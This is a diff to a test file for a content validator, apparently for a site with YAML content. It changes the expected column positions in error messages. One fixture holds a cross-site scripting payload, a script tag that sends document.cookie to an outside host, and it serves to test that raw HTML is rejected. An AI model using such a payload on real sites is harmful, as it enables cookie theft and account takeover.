@@ -299,7 +299,7 @@ case("B1.30 editors' stray files are ignored; any other file is an error", """
 
 CASES.append(Case("B2.31 dangling reference", meeting("""
     -- want --
-    content/meetings/talks.yaml:10:10: summary: unknown id 'wang-yii' (did you mean 'wang-yi'?)
+    content/meetings/talks.yaml:10:21: summary: unknown id 'wang-yii' (did you mean 'wang-yi'?)
 """, summary="summary: Talks with [[wang-yii]].")))
 case("B2.31 dangling reference in a list", """
     -- content/issues/fentanyl.yaml --
@@ -418,7 +418,7 @@ case("B4.49 raw script", """
     summary: "Talks <script>fetch('//x/'+document.cookie)</script>"
     sources: [src-a]
     -- want --
-    content/issues/fentanyl.yaml:2:10: summary: raw HTML <script> is not allowed (write Markdown; HTML is removed from the page)
+    content/issues/fentanyl.yaml:2:17: summary: raw HTML <script> is not allowed (write Markdown; HTML is removed from the page)
 """)
 case("B4.50 event handlers", """
     -- content/issues/fentanyl.yaml --
@@ -485,7 +485,7 @@ def _fragments_resolve(root: Path) -> None:
 
 CASES.append(Case("B4.59 pathological Markdown", "-- content/issues/fentanyl.yaml --\ntitle: Fentanyl\n"
                   "summary: \"" + "[" * 8000 + "\"\nsources: [src-a]\n" + r"""-- want --
-content/issues/fentanyl.yaml:2:10: summary: more than 8 '[' open at once (unclosed or nested brackets) (close each bracket, or write it as \[ or \()
+content/issues/fentanyl.yaml:2:11: summary: more than 8 '[' open at once (unclosed or nested brackets) (close each bracket, or write it as \[ or \()
 """))
 case("B4.60 |safe in a template", """
     -- templates/extra.html --
